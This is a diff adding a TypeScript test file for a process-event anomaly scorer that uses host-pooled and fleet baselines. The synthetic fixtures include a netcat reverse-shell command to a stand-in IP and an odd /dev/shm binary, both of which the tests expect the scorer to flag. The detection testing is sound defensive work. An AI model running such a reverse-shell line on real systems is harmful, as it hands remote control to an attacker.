@@ -1,0 +1,129 @@
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import t from 'tap';
+import { seededRandom as rng } from '../demo/generate';
+import { resolveConfig } from '../conf/config';
+import { Scorer } from '../scorer/scorer';
+import type { ResultRow } from '../scorer/types';
+
+// Hierarchical baselines (design.md, "Baselines: no blind subjects"): a subject with too
+// little history of its own is scored against its host's pooled baseline, or a fleet prior,
+// under the same contract, and the model column names the baseline.
+
+const HOUR = 3600;
+const START = 1_790_000_000;
+const HOST = 'db-02';
+
+const HABITS: Array<[string, string, string]> = [
+  ['/usr/bin/git', 'git status', '/bin/bash'],
+  ['/usr/bin/vim', 'vim notes.md', '/bin/bash'],
+  ['/usr/bin/make', 'make test', '/bin/bash'],
+  ['/usr/bin/ls', 'ls -la', '/bin/bash'],
+  ['/usr/bin/psql', 'psql -h 10.0.0.5 app', '/bin/bash'],
+];
+
+function row(time: number, auid: string, exe: string, cmdline: string, parent: string, host = HOST): ResultRow {
+  return {
+    query: 'pack_user-behavior_process_events',
+    host,
+    time,
+    action: 'added',
+    columns: { pid: String(1000 + (time % 30000)), path: exe, cmdline, auid, uid: auid, euid: auid, parent_path: parent },
+    decorations: {},
+  };
+}
+
+function days(r: () => number, from: number, to: number, perDay: number, auid: string, host = HOST): ResultRow[] {
+  const rows: ResultRow[] = [];
+  for (let d = from; d < to; d++) {
+    for (let i = 0; i < perDay; i++) {
+      const [exe, cmd, parent] = HABITS[Math.floor(r() * HABITS.length)];
+      rows.push(row(START + d * 24 * HOUR + 9 * HOUR + Math.floor(r() * 8 * HOUR), auid, exe, cmd, parent, host));
+    }
+  }
+  return rows.sort((a, b) => a.time - b.time);
+}
+
+const config = (over: Record<string, unknown> = {}) =>
+  resolveConfig({ learning: { min_events: 400, min_days: 1 }, models: { rarity: true, ocsvm: true, lstm: false }, ...over }, 'test', {});
+const USERS = [{ uid: '1000', username: 'bob' }, { uid: '1001', username: 'carol' }, { uid: '1002', username: 'mallory' }];
+
+t.test('a subject still learning is scored by its host baseline', async (t) => {
+  const r = rng(3);
+  const scorer = await Scorer.open({ config: config(), stateDir: null });
+  scorer.setUsers(USERS);
+  // bob works here daily; carol logs a few rows a day and never reaches the minimum
+  await scorer.scoreRows([...days(r, 0, 3, 250, '1000'), ...days(r, 0, 3, 4, '1001')].sort((a, b) => a.time - b.time));
+  const t0 = START + 3 * 24 * HOUR + 10 * HOUR;
+  const scored = await scorer.scoreRows([
+    row(t0, '1001', '/usr/bin/git', 'git status', '/bin/bash'),
+    row(t0 + 60, '1002', '/usr/bin/ls', 'ls -la', '/bin/bash'),
+    row(t0 + 120, '1001', '/tmp/.x/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/usr/sbin/cron'),
+  ]);
+  const [routine, stranger, shell] = scored;
+  t.equal(routine.subject, 'carol');
+  t.match(routine.model, /^host:/, `carol's row is scored by the host baseline (${routine.model})`);
+  t.not(routine.score, null, 'and has a score');
+  t.not(routine.verdict, 'bad', `a habit of the host is not bad (${routine.score}: ${routine.reasons})`);
+  t.match(stranger.model, /^host:/, 'an account never seen on the host is scored too');
+  t.ok((stranger.score as number) < (routine.score as number), `its first activity is evidence (${stranger.score} < ${routine.score}: ${stranger.reasons})`);
+  t.equal(shell.verdict, 'bad', `a shell from a temp dir under cron is bad for a learning subject (${shell.score}: ${shell.reasons})`);
+  const models = scorer.summaries().map((s) => s.subject);
+  t.ok(models.includes(`*@${HOST}`) && models.includes(`carol@${HOST}`), `subjects are host-qualified and the baseline is listed (${[...new Set(models)].join(', ')})`);
+});
+
+t.test('one model per user per host, unless the config pools them', async (t) => {
+  const r = rng(4);
+  const rows = [...days(r, 0, 1, 20, '1000', 'a-1'), ...days(r, 0, 1, 20, '1000', 'b-1')];
+  const perHost = await Scorer.open({ config: config(), stateDir: null });
+  perHost.setUsers(USERS);
+  await perHost.scoreRows(rows);
+  const names = new Set(perHost.summaries().map((s) => s.subject));
+  t.ok(names.has('bob@a-1') && names.has('bob@b-1'), `bob has a model per host (${[...names].join(', ')})`);
+  const pooled = await Scorer.open({ config: config({ baselines: { per_host_users: false } }), stateDir: null });
+  pooled.setUsers(USERS);
+  await pooled.scoreRows(rows);
+  const pooledNames = new Set(pooled.summaries().map((s) => s.subject));
+  t.ok(pooledNames.has('bob') && !pooledNames.has('bob@a-1'), `per_host_users false pools bob (${[...pooledNames].join(', ')})`);
+});
+
+t.test('a fleet prior scores subjects on a host with no history', async (t) => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-fleet-'));
+  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
+  const r = rng(5);
+  const trainer = await Scorer.open({ config: config(), stateDir: null });
+  trainer.setUsers(USERS);
+  await trainer.learnFleet([...days(r, 0, 2, 150, '1000', 'a-1'), ...days(r, 0, 2, 150, '1001', 'b-1')].sort((a, b) => a.time - b.time));
+  const file = path.join(dir, 'fleet.json');
+  const written = await trainer.writeFleet(file);
+  t.ok(written.calibrated && fs.existsSync(file), 'the fleet prior is written as one file');
+
+  const fresh = await Scorer.open({ config: config({ baselines: { fleet_prior: file } }), stateDir: null });
+  fresh.setUsers(USERS);
+  const t0 = START + 5 * 24 * HOUR + 10 * HOUR;
+  const [habit, shell] = await fresh.scoreRows([row(t0, '1000', '/usr/bin/git', 'git status', '/bin/bash', 'c-1'), row(t0 + 5, '1000', '/dev/shm/x', '/dev/shm/x -c id', '/usr/sbin/sshd', 'c-1')]);
+  t.match(habit.model, /^fleet:/, `a new host's first rows are scored by the fleet prior (${habit.model})`);
+  t.not(habit.verdict, "bad", `a fleet-wide habit is not bad (${habit.score}: ${habit.reasons})`);
+  t.equal(shell.verdict, 'bad', `an odd binary is (${shell.score}: ${shell.reasons})`);
+
+  const broken = path.join(dir, 'broken.json');
+  fs.writeFileSync(broken, '{');
+  const logs: string[] = [];
+  const without = await Scorer.open({ config: config({ baselines: { fleet_prior: broken } }), stateDir: null, log: (_l, m) => logs.push(m) });
+  const [row0] = await without.scoreRows([row(t0, '1000', '/usr/bin/git', 'git status', '/bin/bash', 'c-1')]);
+  t.equal(row0.verdict, 'learning', 'an unreadable fleet prior is skipped');
+  t.ok(logs.some((m) => m.includes('fleet prior')), 'and the log says so');
+});
+
+t.test('offline, uids are named from users snapshots and rows that carry both', async (t) => {
+  const scorer = await Scorer.open({ config: config(), stateDir: null });
+  const uidOnly = row(START, '1001', '/usr/bin/ls', 'ls', '/bin/bash');
+  const stranger = row(START + 1, '1007', '/usr/bin/ls', 'ls', '/bin/bash');
+  const snapshot: ResultRow = { query: 'pack_users_users', host: HOST, time: START + 3600, action: 'snapshot', columns: { uid: '1001', username: 'carol', directory: '/home/carol' }, decorations: {} };
+  scorer.learnUsers([uidOnly, stranger, snapshot]);
+  const [a, b] = await scorer.scoreRows([uidOnly, stranger]);
+  t.equal(a.subject, 'carol', 'a uid-only row logged before the users snapshot belongs to carol');
+  t.equal(b.subject, 'uid:1007', 'a uid nothing names stays a bare uid');
+  t.same([...scorer.bareUidRows], [['uid:1007', 1]], 'and is counted for the train output');
+});
